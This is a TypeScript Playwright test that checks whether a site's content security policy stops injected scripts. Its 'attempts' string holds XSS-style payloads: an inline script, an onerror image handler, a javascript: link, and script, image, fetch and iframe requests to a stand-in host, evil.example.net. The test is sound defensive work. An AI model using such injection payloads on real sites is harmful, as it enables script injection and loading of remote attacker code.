import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from '../browser.ts'
import { buildSites, listPages, pageKind, serve } from './site-under-test.ts'

const site = buildSites().find(({ name }) => name === 'fixture cases')
let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser?.close())

/** What a script that came to stand in a page would try, each way by itself. */
const attempts = `
  const script = document.createElement('script')
  script.textContent = 'window.hurt = "inline script"'
  document.body.append(script)
  const image = document.createElement('div')
  image.innerHTML = '<img src="data:image/png;base64,x" onerror="window.hurt = 1"><a id="lure" href="javascript:window.hurt=2">x</a>'
  document.body.append(image)
  document.getElementById('lure').click()
  const far = document.createElement('script')
  far.src = 'https://evil.example.net/x.js'
  document.body.append(far)
  new Image().src = 'https://evil.example.net/x.png'
  fetch('https://evil.example.net/x').catch(() => {})
  const frame = document.createElement('iframe')
  frame.src = 'https://evil.example.net/'
  document.body.append(frame)
`

test.skipIf(site === undefined)(
  'policy: a page of every kind tries to break it -> nothing runs, nothing is asked for',
  {
    timeout: 120_000,
  },
  async () => {
    if (!site) return
    const { address, close } = await serve(site.dir)
    const context = await browser.newContext()
    const page = await context.newPage()
    const asked: string[] = []
    const note = (address: string, how: string): void => {
      if (address.includes('evil.example.net')) asked.push(`${page.url()}: ${address} ${how}`)
    }
    page.on('requestfinished', (request) => note(request.url(), 'was asked for'))
    page.on('requestfailed', (request) => {
      const why = request.failure()?.errorText ?? ''
      // The policy stops it before it leaves the page.
      if (!/^csp$|BLOCKED_BY_CSP/.test(why)) note(request.url(), why)
    })
    const kinds = [...Map.groupBy(listPages(site.dir), pageKind).values()].flatMap(([first]) => first ?? [])
    const hurt: string[] = []
    for (const name of kinds.filter((one) => !/^[mc]\//.test(one))) {
      await page.goto(address + name, { waitUntil: 'load' })
      await page.evaluate(attempts)
      await page.waitForTimeout(100)
      if (await page.evaluate(() => 'hurt' in window)) hurt.push(name)
    }
    await context.close()
    await close()
    expect({ hurt, asked }).toEqual({ hurt: [], asked: [] })
  },
)
